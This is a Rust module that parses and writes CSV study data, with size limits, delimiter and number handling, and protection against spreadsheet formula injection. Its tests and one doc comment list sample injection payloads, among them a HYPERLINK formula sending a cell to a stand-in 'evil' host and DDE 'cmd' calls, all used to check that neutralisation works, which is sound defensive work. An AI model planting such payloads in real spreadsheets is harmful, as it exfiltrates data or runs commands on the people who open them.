//! CSV text → a table of named columns, for the raw study data a person or an agent brings.
//!
//! Text in, values out, no I/O: the page reads a file in the browser, the CLI reads it from
//! disk, and both hand the text here. A header row names the columns; the delimiter (comma,
//! semicolon or tab) is detected from the header; fields may be quoted (RFC 4180, `""` for
//! a quote inside); a UTF-8 byte-order mark and CRLF line ends are accepted; rows whose
//! fields are all empty are skipped. Every error says where (line, and column where there
//! is one), and the size is bounded ([`MAX_CSV_BYTES`], [`MAX_CSV_ROWS`], [`MAX_CSV_COLUMNS`],
//! [`MAX_CSV_CELLS`]).
//!
//! [`write()`] is the one CSV writer of the project (records of Your data and `escalc --csv`,
//! bench data): a text cell a spreadsheet would run as a formula is neutralised
//! ([`neutralized_text`], OWASP's rule for CSV injection).

use serde_json::{Map, Value};
use std::borrow::Cow;
use std::fmt;

/// The largest CSV text accepted (16 MiB).
pub const MAX_CSV_BYTES: usize = 16 * 1024 * 1024;
/// The most data rows accepted: as many rows of raw data as the tools accept (the tools'
/// limit, `tools::MAX_RAW_DATA_ROWS`, is this one, and says why).
pub const MAX_CSV_ROWS: usize = 20_000;
/// The most columns accepted.
pub const MAX_CSV_COLUMNS: usize = 200;
/// The most data cells (rows × columns) accepted: every cell is read into a value, carried
/// into its record and shown, so the work grows with the cells, not the rows alone (issue 41
/// item 6: 20,000 rows × 200 columns took 5.75 s and 2.16 GB natively in Your data's view).
/// The most rows with 30 columns, about a second of Your data's view natively
/// (`your_data_view_largest` in `cargo xtask bench`); a wider CSV takes fewer rows.
pub const MAX_CSV_CELLS: usize = 600_000;

/// A parsed CSV: its header and its data rows.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    /// The column names, trimmed, as the header row gives them.
    pub header: Vec<String>,
    pub rows: Vec<Row>,
    /// The delimiter detected: `,`, `;` or a tab.
    pub delimiter: char,
}

/// One data row: its fields in header order and the line it starts on (1-based; the header
/// is line 1 when the text starts with it).
#[derive(Debug, Clone, PartialEq)]
pub struct Row {
    pub line: u64,
    pub fields: Vec<String>,
}

/// Why a CSV text cannot be read.
#[derive(Debug, Clone, PartialEq)]
pub enum CsvError {
    /// The text has no header row.
    Empty,
    TooLarge {
        bytes: usize,
    },
    TooManyColumns {
        columns: usize,
    },
    TooManyRows,
    /// More data cells than [`MAX_CSV_CELLS`] with this many columns.
    TooManyCells {
        columns: usize,
    },
    /// A header cell is empty.
    EmptyHeader {
        column: usize,
    },
    /// Two header cells name the same column.
    DuplicateHeader {
        name: String,
        column: usize,
    },
    /// A row has more or fewer fields than the header.
    WrongFieldCount {
        line: u64,
        fields: usize,
        expected: usize,
        /// Whether a field of the row spans lines: a quote left open swallows the rest.
        spans_lines: bool,
    },
    /// The csv reader's own error (with the line where it happened).
    Malformed {
        line: u64,
        message: String,
    },
}

impl fmt::Display for CsvError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CsvError::Empty => write!(f, "the CSV is empty: it needs a header row naming the columns"),
            CsvError::TooLarge { bytes } => write!(
                f,
                "the CSV is {bytes} bytes; at most {MAX_CSV_BYTES} bytes (16 MiB) are accepted"
            ),
            CsvError::TooManyColumns { columns } => write!(
                f,
                "line 1: the header has {columns} columns; at most {MAX_CSV_COLUMNS} are accepted"
            ),
            CsvError::TooManyRows => write!(
                f,
                "the CSV has more than {MAX_CSV_ROWS} data rows; at most {MAX_CSV_ROWS} are accepted"
            ),
            CsvError::TooManyCells { columns } => write!(
                f,
                "the CSV has more than {MAX_CSV_CELLS} data cells; at most {MAX_CSV_CELLS} \
                 (rows × columns) are accepted: with {columns} columns, at most {} rows",
                MAX_CSV_CELLS / columns
            ),
            CsvError::EmptyHeader { column } => write!(
                f,
                "line 1, column {column}: the header cell is empty; every column needs a name"
            ),
            CsvError::DuplicateHeader { name, column } => write!(
                f,
                "line 1, column {column}: the header names {name:?} twice; column names must be unique"
            ),
            CsvError::WrongFieldCount {
                line,
                fields,
                expected,
                spans_lines,
            } => {
                write!(
                    f,
                    "line {line}, column {}: the row has {fields} fields, the header {expected}",
                    fields.min(expected) + 1
                )?;
                if *spans_lines {
                    write!(f, " (a field spans lines: is a quote left open?)")?;
                }
                Ok(())
            }
            CsvError::Malformed { line, message } => write!(f, "line {line}: {message}"),
        }
    }
}

impl std::error::Error for CsvError {}

/// Parses CSV text with a header row (see the module documentation).
pub fn parse(text: &str) -> Result<Table, CsvError> {
    if text.len() > MAX_CSV_BYTES {
        return Err(CsvError::TooLarge { bytes: text.len() });
    }
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let delimiter = detect_delimiter(text);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(text.as_bytes());
    let mut records = reader.records();
    let mut lines = Lines::new(text);
    let mut header: Option<Vec<String>> = None;
    let mut rows = Vec::new();
    for record in &mut records {
        let record = record.map_err(|e| CsvError::Malformed {
            line: lines.at(e.position().map_or(0, |p| p.byte())),
            message: e.to_string(),
        })?;
        let line = lines.at(record.position().map_or(0, |p| p.byte()));
        if record.iter().all(|field| field.trim().is_empty()) {
            continue;
        }
        let Some(names) = &header else {
            header = Some(read_header(&record)?);
            continue;
        };
        if record.len() != names.len() {
            return Err(CsvError::WrongFieldCount {
                line,
                fields: record.len(),
                expected: names.len(),
                spans_lines: record.iter().any(|f| f.contains('\n')),
            });
        }
        if rows.len() == MAX_CSV_ROWS {
            return Err(CsvError::TooManyRows);
        }
        if (rows.len() + 1) * names.len() > MAX_CSV_CELLS {
            return Err(CsvError::TooManyCells {
                columns: names.len(),
            });
        }
        rows.push(Row {
            line,
            fields: record.iter().map(|f| f.trim().to_string()).collect(),
        });
    }
    Ok(Table {
        header: header.ok_or(CsvError::Empty)?,
        rows,
        delimiter: char::from(delimiter),
    })
}

/// Line numbers of byte offsets, counted forward once (offsets come in increasing order).
/// The csv crate's own line count lags behind quoted line breaks, and a record's position
/// can point at the line break before it, so lines are counted from the bytes.
struct Lines<'a> {
    text: &'a [u8],
    offset: usize,
    line: u64,
}

impl<'a> Lines<'a> {
    fn new(text: &'a str) -> Self {
        Lines {
            text: text.as_bytes(),
            offset: 0,
            line: 1,
        }
    }

    /// The line of the first byte at or after `offset` that is not a line break.
    fn at(&mut self, offset: u64) -> u64 {
        let mut end = usize::try_from(offset)
            .unwrap_or(usize::MAX)
            .min(self.text.len());
        while end < self.text.len() && matches!(self.text[end], b'\r' | b'\n') {
            end += 1;
        }
        if end > self.offset {
            self.line += self.text[self.offset..end]
                .iter()
                .filter(|&&b| b == b'\n')
                .count() as u64;
            self.offset = end;
        }
        self.line
    }
}

fn read_header(record: &csv::StringRecord) -> Result<Vec<String>, CsvError> {
    if record.len() > MAX_CSV_COLUMNS {
        return Err(CsvError::TooManyColumns {
            columns: record.len(),
        });
    }
    let names: Vec<String> = record.iter().map(|f| f.trim().to_string()).collect();
    for (i, name) in names.iter().enumerate() {
        if name.is_empty() {
            return Err(CsvError::EmptyHeader { column: i + 1 });
        }
        if names[..i].contains(name) {
            return Err(CsvError::DuplicateHeader {
                name: name.clone(),
                column: i + 1,
            });
        }
    }
    Ok(names)
}

/// The delimiter of the first non-empty line: whichever of tab, semicolon and comma occurs
/// most often outside quotes (a comma when none occurs, or on a tie).
fn detect_delimiter(text: &str) -> u8 {
    let line = text
        .split('\n')
        .find(|l| !l.trim().is_empty())
        .unwrap_or("");
    let mut counts = [(b',', 0usize), (b';', 0), (b'\t', 0)];
    let mut quoted = false;
    for byte in line.bytes() {
        if byte == b'"' {
            quoted = !quoted;
        } else if !quoted {
            for (delimiter, count) in &mut counts {
                if byte == *delimiter {
                    *count += 1;
                }
            }
        }
    }
    counts
        .iter()
        .fold(
            (b',', 0),
            |best, &(d, n)| if n > best.1 { (d, n) } else { best },
        )
        .0
}

/// A field as a JSON value: `null` when empty, a number (an integer when whole) when it reads as a finite decimal
/// number (a decimal comma is read too when the delimiter is a semicolon, as spreadsheets
/// in many locales write), the text otherwise.
pub fn cell_value(field: &str, delimiter: char) -> Value {
    let field = field.trim();
    if field.is_empty() {
        return Value::Null;
    }
    let decimal_comma;
    let text = if delimiter == ';' && !field.contains('.') && field.matches(',').count() == 1 {
        decimal_comma = field.replace(',', ".");
        decimal_comma.as_str()
    } else {
        field
    };
    match number(text) {
        // Whole numbers stay whole (a count of 20 reads back as 20, not 20.0).
        Some(x) if x.fract() == 0.0 && x.abs() < 9.0e15 => Value::from(x as i64),
        Some(x) => Value::from(x),
        None => Value::String(field.to_string()),
    }
}

/// A finite decimal number in plain notation (`12`, `-0.5`, `.5`, `1e-3`); not `inf`,
/// `NaN`, hexadecimal or a number with spaces inside.
pub fn number(text: &str) -> Option<f64> {
    let plain = text
        .bytes()
        .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'-' | b'+' | b'e' | b'E'))
        && text.bytes().any(|b| b.is_ascii_digit());
    if !plain {
        return None;
    }
    finite_decimal(text)
}

/// `text` as `str::parse::<f64>` reads it (`12`, `+1.`, `.5`, `007`, `1e-3`, `inf`), when
/// finite; else none.
///
/// Read by serde_json's parser (correctly rounded, as `float_roundtrip` makes it), after
/// rewriting the text in JSON's grammar (no `+`, no leading zeros, digits on both sides of
/// the point): the one decimal-to-binary conversion the page's wasm links, rather than a
/// second with its own tables (`str::parse` brings 10 KB of powers of five). The same
/// value bit for bit; a test compares the two.
pub fn finite_decimal(text: &str) -> Option<f64> {
    let (negative, rest) = match text.as_bytes().first() {
        Some(b'-') => (true, &text[1..]),
        Some(b'+') => (false, &text[1..]),
        _ => (false, text),
    };
    let (mantissa, exponent) = match rest.find(['e', 'E']) {
        Some(at) => (&rest[..at], Some(&rest[at + 1..])),
        None => (rest, None),
    };
    let (whole, fraction) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    if !digits(whole) || !digits(fraction) || whole.len() + fraction.len() == 0 {
        // Not a plain decimal: `inf`, `infinity` and `nan` (any case) parse to no finite
        // number; anything else does not parse.
        return None;
    }
    let mut json = String::with_capacity(text.len() + 2);
    if negative {
        json.push('-');
    }
    let whole = whole.trim_start_matches('0');
    json.push_str(if whole.is_empty() { "0" } else { whole });
    if !fraction.is_empty() {
        json.push('.');
        json.push_str(fraction);
    }
    if let Some(exponent) = exponent {
        let unsigned = exponent.strip_prefix(['-', '+']).unwrap_or(exponent);
        if unsigned.is_empty() || !digits(unsigned) {
            return None;
        }
        json.push('e');
        json.push_str(exponent);
    }
    // A value beyond f64's range parses to an infinity with `str::parse`, and is refused
    // here: not finite either way.
    serde_json::from_str::<f64>(&json)
        .ok()
        .filter(|x| x.is_finite())
}

impl Table {
    /// The rows as JSON objects keyed by the header: each field as [`cell_value`] reads it,
    /// except the `id` column, which stays text ("007" is not the number 7).
    ///
    /// A column with a value that reads as no number (`<400` beside `400`; blank and `NA` are
    /// missing values, not text) is a text column, every value as written (trimmed), as R's
    /// read.csv reads it: its numbers are then numeric text, which a reader of numbers still
    /// reads ([`crate::tools::raw_columns::read_value`]) and a moderator reads as a level.
    pub fn json_rows(&self) -> Vec<Map<String, Value>> {
        let text_columns: Vec<bool> = (0..self.header.len())
            .map(|at| {
                self.rows.iter().any(|row| {
                    row.fields.get(at).is_some_and(|field| {
                        matches!(cell_value(field, self.delimiter), Value::String(s) if s != "NA")
                    })
                })
            })
            .collect();
        self.rows
            .iter()
            .map(|row| {
                self.header
                    .iter()
                    .zip(&row.fields)
                    .zip(&text_columns)
                    .map(|((name, field), &text)| {
                        let value = if name == "id" {
                            if field.is_empty() {
                                Value::Null
                            } else {
                                Value::String(field.clone())
                            }
                        } else if text {
                            match field.trim() {
                                "" => Value::Null,
                                trimmed => Value::String(trimmed.to_string()),
                            }
                        } else {
                            cell_value(field, self.delimiter)
                        };
                        (name.clone(), value)
                    })
                    .collect()
            })
            .collect()
    }
}

/// What makes a spreadsheet (Excel, LibreOffice Calc, Google Sheets) read a CSV cell as a
/// formula when the cell begins with it: OWASP's list for CSV injection (`=`, `+`, `-`, `@`,
/// tab, carriage return), a line feed, and the full-width `＝ ＋ － ＠` that spreadsheets in
/// East Asian locales take for the ASCII signs.
const FORMULA_STARTS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Whether a spreadsheet could read `text` as a formula (a command, a link that sends the
/// sheet's cells away): it begins with one of `FORMULA_STARTS`, also after leading white
/// space, controls and characters shown as nothing ([`is_invisible`]: a zero-width space,
/// a byte-order mark; some spreadsheets drop them on import, and a person does not see
/// them), and it is not a plain number as [`number`] reads it. A plain number (`-1`,
/// `+2.5e3`) holds no cell reference and no function, a spreadsheet reads it as that number,
/// and leaving it as it is keeps an id such as `-1` the same when the CSV is read back.
pub fn is_formula_like(text: &str) -> bool {
    let starts = |t: &str| t.starts_with(FORMULA_STARTS);
    let hidden = |c: char| c.is_whitespace() || c.is_control() || is_invisible(c);
    (starts(text) || starts(text.trim_start_matches(hidden))) && number(text.trim()).is_none()
}

/// Whether `c` is shown as nothing: Unicode's Default_Ignorable_Code_Point property
/// (DerivedCoreProperties.txt, Unicode 15.1), which holds the zero-width space and joiners
/// (U+200B–U+200D), the byte-order mark (U+FEFF), the direction controls, the soft hyphen,
/// variation selectors and tags.
fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{034F}'
            | '\u{061C}'
            | '\u{115F}'..='\u{1160}'
            | '\u{17B4}'..='\u{17B5}'
            | '\u{180B}'..='\u{180F}'
            | '\u{200B}'..='\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}'
            | '\u{3164}'
            | '\u{FE00}'..='\u{FE0F}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF0}'..='\u{FFF8}'
            | '\u{1BCA0}'..='\u{1BCA3}'
            | '\u{1D173}'..='\u{1D17A}'
            | '\u{E0000}'..='\u{E0FFF}'
    )
}

/// A text cell as every CSV this crate writes holds it: a formula-like text (see
/// [`is_formula_like`]) gets a single quote in front, which spreadsheets read as "this is
/// text", so `=HYPERLINK("http://evil/?x="&A1)` is written `'=HYPERLINK(…)`. Other text, and
/// every number, is written as it is.
pub fn neutralized_text(text: &str) -> Cow<'_, str> {
    if is_formula_like(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Writes rows as CSV text: a header row of `columns`, then one line per row (a missing
/// value as an empty field, numbers in their shortest round-trip form), lines ended by `\n`.
/// Every CSV the crates write goes through here. Text cells, header cells included, pass
/// through [`neutralized_text`]; a neutralised cell is always quoted (OWASP's rule), any
/// other cell only when it holds a comma, a quote or a line break (RFC 4180, `""` for a
/// quote inside). Numbers are never prefixed: `-0.47` stays `-0.47`.
pub fn write(columns: &[String], rows: &[Map<String, Value>]) -> String {
    let mut out = String::new();
    write_line(&mut out, columns.iter().map(|c| c.as_str().into()));
    for row in rows {
        write_line(
            &mut out,
            columns.iter().map(|c| match row.get(c) {
                None | Some(Value::Null) => Cell::Plain(String::new()),
                Some(Value::String(s)) => s.as_str().into(),
                Some(other) => Cell::Plain(other.to_string()),
            }),
        );
    }
    out
}

/// One cell to write: text (neutralised when formula-like), or the JSON text of a number (or
/// of another value that is not text), written as it is.
enum Cell<'a> {
    Text(&'a str),
    Plain(String),
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(text: &'a str) -> Self {
        Cell::Text(text)
    }
}

fn write_line<'a>(out: &mut String, cells: impl ExactSizeIterator<Item = Cell<'a>>) {
    let single = cells.len() == 1;
    for (i, cell) in cells.enumerate() {
        if i > 0 {
            out.push(',');
        }
        let text = match &cell {
            Cell::Text(text) => neutralized_text(text),
            Cell::Plain(text) => Cow::Borrowed(text.as_str()),
        };
        let neutralized = matches!((&cell, &text), (Cell::Text(_), Cow::Owned(_)));
        // A line of one empty cell would be an empty line, which readers skip.
        let must_quote =
            neutralized || text.contains([',', '"', '\r', '\n']) || (single && text.is_empty());
        if must_quote {
            out.push('"');
            out.push_str(&text.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&text);
        }
    }
    out.push('\n');
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn fields(table: &Table) -> Vec<Vec<&str>> {
        table
            .rows
            .iter()
            .map(|r| r.fields.iter().map(String::as_str).collect())
            .collect()
    }

    #[test]
    fn each_delimiter_is_detected() {
        for (text, delimiter) in [
            ("id,m1i,n1i\na,1.5,10\n", ','),
            ("id;m1i;n1i\na;1,5;10\n", ';'),
            ("id\tm1i\tn1i\na\t1.5\t10\n", '\t'),
        ] {
            let table = parse(text).unwrap();
            assert_eq!(table.delimiter, delimiter, "{text:?}");
            assert_eq!(table.header, ["id", "m1i", "n1i"]);
            assert_eq!(
                table.json_rows()[0],
                json!({"id": "a", "m1i": 1.5, "n1i": 10})
                    .as_object()
                    .unwrap()
                    .clone()
            );
        }
        // A comma inside quotes does not count towards the delimiter.
        assert_eq!(parse("\"a,b\";c\n1;2\n").unwrap().delimiter, ';');
    }

    #[test]
    fn quotes_bom_and_crlf() {
        let text =
            "\u{feff}id,note,yi\r\n\"s1\",\"a, \"\"quoted\"\"\r\nnote\",0.1\r\n\r\ns2,,-2e-1\r\n";
        let table = parse(text).unwrap();
        assert_eq!(table.header, ["id", "note", "yi"]);
        assert_eq!(
            fields(&table),
            [
                vec!["s1", "a, \"quoted\"\r\nnote", "0.1"],
                vec!["s2", "", "-2e-1"]
            ]
        );
        assert_eq!(table.rows[0].line, 2);
        assert_eq!(table.rows[1].line, 5);
        let rows = table.json_rows();
        assert_eq!(rows[1]["note"], Value::Null);
        assert_eq!(rows[1]["yi"], json!(-0.2));
    }

    #[test]
    fn a_bad_row_is_an_error_with_its_line_and_column() {
        let e = parse("id,yi,vi\na,1,2\nb,1\n").unwrap_err();
        assert_eq!(
            e.to_string(),
            "line 3, column 3: the row has 2 fields, the header 3"
        );
        let e = parse("id,yi,vi\na,\"1,2\nb,1,2\n").unwrap_err();
        assert!(e.to_string().starts_with("line 2, column 3"), "{e}");
        assert!(e.to_string().contains("quote left open"), "{e}");
        assert_eq!(
            parse("id,,vi\n").unwrap_err().to_string(),
            "line 1, column 2: the header cell is empty; every column needs a name"
        );
        assert!(matches!(
            parse("a,b,a\n"),
            Err(CsvError::DuplicateHeader { column: 3, .. })
        ));
        assert_eq!(parse(""), Err(CsvError::Empty));
        assert_eq!(parse("\n \n"), Err(CsvError::Empty));
    }

    #[test]
    fn sizes_are_bounded() {
        let wide = (0..=MAX_CSV_COLUMNS)
            .map(|i| format!("c{i}"))
            .collect::<Vec<_>>()
            .join(",");
        assert!(matches!(parse(&wide), Err(CsvError::TooManyColumns { .. })));
        let long = format!("x\n{}", "1\n".repeat(MAX_CSV_ROWS + 1));
        assert_eq!(parse(&long), Err(CsvError::TooManyRows));
        // Rows × columns: at 30 columns, 20,000 rows (the most) fill the cells exactly; at 31
        // the row past 19,354 is refused, naming the limit and the rows that width allows.
        let row = |columns: usize| vec!["1"; columns].join(",");
        let header = |columns: usize| {
            (0..columns)
                .map(|i| format!("c{i}"))
                .collect::<Vec<_>>()
                .join(",")
        };
        let full = format!(
            "{}\n{}",
            header(30),
            format!("{}\n", row(30)).repeat(20_000)
        );
        assert_eq!(parse(&full).unwrap().rows.len(), 20_000);
        let most = MAX_CSV_CELLS / 31;
        let fits = format!("{}\n{}", header(31), format!("{}\n", row(31)).repeat(most));
        assert_eq!(parse(&fits).unwrap().rows.len(), 19_354);
        let over = format!("{fits}{}\n", row(31));
        let e = parse(&over).unwrap_err();
        assert_eq!(e, CsvError::TooManyCells { columns: 31 });
        assert_eq!(
            e.to_string(),
            "the CSV has more than 600000 data cells; at most 600000 (rows × columns) are \
             accepted: with 31 columns, at most 19354 rows"
        );
        let big = "x".repeat(MAX_CSV_BYTES + 1);
        assert!(parse(&big)
            .unwrap_err()
            .to_string()
            .contains("at most 16777216 bytes"));
    }

    #[test]
    fn cells_become_numbers_only_when_plainly_numeric() {
        for (field, value) in [
            ("12", json!(12)),
            ("-3e2", json!(-300)),
            (" -0.5 ", json!(-0.5)),
            (".5", json!(0.5)),
            ("1e-3", json!(0.001)),
            ("inf", json!("inf")),
            ("NaN", json!("NaN")),
            ("1e999", json!("1e999")),
            ("0x10", json!("0x10")),
            ("n/a", json!("n/a")),
            ("", Value::Null),
            ("1,5", json!("1,5")),
        ] {
            assert_eq!(cell_value(field, ','), value, "{field:?}");
        }
        assert_eq!(cell_value("1,5", ';'), json!(1.5));
        assert_eq!(cell_value("1,000,5", ';'), json!("1,000,5"));
        let t = parse("id,x\n007,007\n").unwrap();
        assert_eq!(t.json_rows()[0]["id"], json!("007"));
    }

    #[test]
    fn a_column_with_a_cell_that_is_no_number_is_text_as_read_csv_reads_it() {
        // Issue 42 item 4: "<400" beside "400" makes sens text, 1.50 written as in the file;
        // blank and NA are missing, so ni stays numeric.
        let t = parse("sens,ni,x\n<400,29,1.50\n400,NA,\n 400 ,,a\n").unwrap();
        let rows = t.json_rows();
        assert_eq!(rows[0]["sens"], json!("<400"));
        assert_eq!(rows[1]["sens"], json!("400"));
        assert_eq!(rows[2]["sens"], json!("400"));
        assert_eq!(rows[0]["ni"], json!(29));
        assert_eq!(rows[1]["ni"], json!("NA"));
        assert_eq!(rows[2]["ni"], Value::Null);
        assert_eq!(rows[0]["x"], json!("1.50"));
        assert_eq!(rows[1]["x"], Value::Null);
    }

    #[test]
    fn written_csv_reads_back() {
        let rows: Vec<Map<String, Value>> = vec![
            json!({"id": "a, \"b\"", "yi": 0.1, "vi": 1e-20}),
            json!({"id": "c", "yi": -2.5, "note": null}),
        ]
        .into_iter()
        .map(|v| v.as_object().unwrap().clone())
        .collect();
        let columns: Vec<String> = ["id", "yi", "vi", "note"].map(String::from).to_vec();
        let text = write(&columns, &rows);
        assert_eq!(
            text,
            "id,yi,vi,note\n\"a, \"\"b\"\"\",0.1,1e-20,\nc,-2.5,,\n"
        );
        let back = parse(&text).unwrap().json_rows();
        assert_eq!(back[0]["id"], rows[0]["id"]);
        assert_eq!(back[0]["vi"], json!(1e-20));
    }

    /// Cells a hostile CSV (or records JSON) may carry, from OWASP's CSV injection page and
    /// the probe.
    const HOSTILE: [&str; 11] = [
        "=HYPERLINK(\"http://evil/?x=\"&A1)",
        "+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "-",
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{FF1D}1+1",
    ];

    #[test]
    fn formula_like_text_is_prefixed_and_quoted() {
        for cell in HOSTILE {
            assert!(is_formula_like(cell), "{cell:?}");
            assert_eq!(neutralized_text(cell), format!("'{cell}"), "{cell:?}");
            let row = json!({"id": cell}).as_object().unwrap().clone();
            let text = write(&["id".to_string()], &[row]);
            let quoted = format!("\"'{}\"", cell.replace('"', "\"\""));
            assert_eq!(text, format!("id\n{quoted}\n"), "{cell:?}");
        }
        // Text that only contains a sign, or is a plain number, is left alone: a spreadsheet
        // reads "-1" as the number -1, and the id "-1" reads back as "-1".
        for cell in [
            "a=b", "x-1", "s@home", "-1", "+2.5e3", "-0.47", "1e-3", "'=quoted",
        ] {
            assert!(!is_formula_like(cell), "{cell:?}");
            assert_eq!(neutralized_text(cell), cell);
        }
        // "-1e999" is not a finite number: text that a spreadsheet may evaluate.
        assert!(is_formula_like("-1e999"));
    }

    /// Issue 41 item 14: a sign behind characters a spreadsheet shows as nothing (a zero-width
    /// space, a byte-order mark, a direction mark, a soft hyphen, a control) still starts a
    /// formula: the cell is written with the quote in front, and quoted.
    #[test]
    fn a_sign_behind_invisible_characters_is_neutralized() {
        for lead in [
            "\u{200B}",
            "\u{FEFF}",
            "\u{200B}\u{FEFF} ",
            "\u{200E}",
            "\u{202E}",
            "\u{2060}",
            "\u{00AD}",
            "\u{180E}",
            "\u{0}",
            "\u{1b}",
            "\u{85}",
            "\u{E0041}",
            " \u{200D}",
        ] {
            for sign in [
                "=1+1",
                "+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1",
                "\r=1",
            ] {
                let cell = format!("{lead}{sign}");
                assert!(is_formula_like(&cell), "{cell:?}");
                let row = json!({"id": cell}).as_object().unwrap().clone();
                let text = write(&["id".to_string()], &[row]);
                assert!(text.starts_with("id\n\"'"), "{cell:?}: {text:?}");
            }
        }
        // Invisible characters before text that is not a formula leave it alone.
        assert!(!is_formula_like("\u{200B}abc"));
        assert!(!is_formula_like("\u{FEFF}s01"));
    }

    #[test]
    fn numbers_are_never_prefixed_and_headers_are_neutralized() {
        let columns: Vec<String> = ["id", "yi", "=cmd|' /C calc'!A0"]
            .map(String::from)
            .to_vec();
        let rows: Vec<Map<String, Value>> = vec![
            json!({"id": "@SUM(A1:A9)", "yi": -0.47, "=cmd|' /C calc'!A0": "-x"}),
            json!({"id": "-1", "yi": -2, "=cmd|' /C calc'!A0": -1e-300}),
        ]
        .into_iter()
        .map(|v| v.as_object().unwrap().clone())
        .collect();
        assert_eq!(
            write(&columns, &rows),
            "id,yi,\"'=cmd|' /C calc'!A0\"\n\"'@SUM(A1:A9)\",-0.47,\"'-x\"\n-1,-2,-1e-300\n"
        );
    }

    #[test]
    fn a_neutralized_cell_reads_back_with_its_quote() {
        let rows: Vec<Map<String, Value>> = HOSTILE
            .iter()
            .map(|cell| json!({"id": cell, "yi": 1}).as_object().unwrap().clone())
            .collect();
        let columns: Vec<String> = ["id", "yi"].map(String::from).to_vec();
        let back = parse(&write(&columns, &rows)).unwrap();
        assert_eq!(back.rows.len(), HOSTILE.len());
        for (row, cell) in back.rows.iter().zip(HOSTILE) {
            assert_eq!(row.fields[0], format!("'{cell}").trim(), "{cell:?}");
            assert!(!is_formula_like(&row.fields[0]));
        }
    }

    #[test]
    fn finite_decimal_reads_as_str_parse_at_the_edges() {
        // Each case between bars (' 1' and '1 ' keep their spaces).
        let cases = concat!(
            "0|-0|+0|-0.0|007|-007.50|.5|-.5|+.5|5.|5.e3|1e|1e+|e5|.|-|+||1e308|",
            "1.7976931348623157e308|1.8e308|-1e999|1e-400|-1e-400|4.9406564584124654e-324|",
            "2.4703282292062327e-324|2.4703282292062328e-324|9007199254740993|",
            "18446744073709551616|-9223372036854775809|0.1|1e0000000000000000000000005|",
            "0e99999999999|1e99999999999|1e-99999999999|inf|-inf|Infinity|NaN|nan|1_0| 1|",
            "1 |0x10|1e5.5|1..2|--1|+-1|1e--5|",
            "123456789012345678901234567890.123456789012345678901234567890e-20",
        );
        for text in cases.split('|') {
            let expected = text.parse::<f64>().ok().filter(|x| x.is_finite());
            assert_eq!(
                finite_decimal(text).map(f64::to_bits),
                expected.map(f64::to_bits),
                "{text:?}"
            );
        }
    }

    mod no_panics {
        use super::super::*;
        use proptest::prelude::*;
        use serde_json::json;

        proptest! {
            #[test]
            fn any_text_parses_or_is_an_error(text in "[a-c0-9,;\t\"\r\n .\u{feff}-]{0,200}") {
                match parse(&text) {
                    Ok(table) => {
                        for row in &table.rows {
                            prop_assert_eq!(row.fields.len(), table.header.len());
                        }
                        let _ = table.json_rows();
                    }
                    Err(e) => prop_assert!(!e.to_string().is_empty()),
                }
            }

            /// Whatever text a cell holds, the CSV written reads back as that cell, or as
            /// that cell with the quote in front when it is formula-like, and no cell read
            /// back is formula-like.
            #[test]
            fn no_written_text_cell_reads_back_as_a_formula(
                cells in prop::collection::vec("[=+@\t\r\n ,\"'a1.eE\u{FF1D}-]{0,8}", 1..6),
            ) {
                let rows: Vec<Map<String, Value>> = cells
                    .iter()
                    .map(|c| [("k".to_string(), json!(1)), ("c".to_string(), json!(c))].into_iter().collect())
                    .collect();
                let columns: Vec<String> = ["k", "c"].map(String::from).to_vec();
                let back = parse(&write(&columns, &rows)).unwrap();
                prop_assert_eq!(back.rows.len(), cells.len());
                for (row, cell) in back.rows.iter().zip(&cells) {
                    let written = neutralized_text(cell);
                    prop_assert_eq!(row.fields[1].as_str(), written.trim());
                    prop_assert!(!is_formula_like(&row.fields[1]), "{:?} -> {:?}", cell, row.fields[1]);
                }
            }

            /// `finite_decimal` reads what `str::parse::<f64>` reads, bit for bit, and refuses
            /// the rest: signs, leading zeros, bare points, exponents of any length.
            #[test]
            fn finite_decimal_is_str_parse_bit_for_bit(
                text in "[+-]?[0-9]{0,25}(\\.[0-9]{0,25})?([eE][+-]?[0-9]{0,5})?",
                noise in "[0-9.eE+-infatyINFATY]{0,12}",
            ) {
                for text in [text.as_str(), noise.as_str()] {
                    let expected = text.parse::<f64>().ok().filter(|x| x.is_finite());
                    prop_assert_eq!(
                        finite_decimal(text).map(f64::to_bits),
                        expected.map(f64::to_bits),
                        "{:?}", text
                    );
                }
            }

            #[test]
            fn any_unicode_parses_or_is_an_error(text in "\\PC{0,300}") {
                let _ = parse(&text).map(|t| t.json_rows());
            }
        }
    }
}
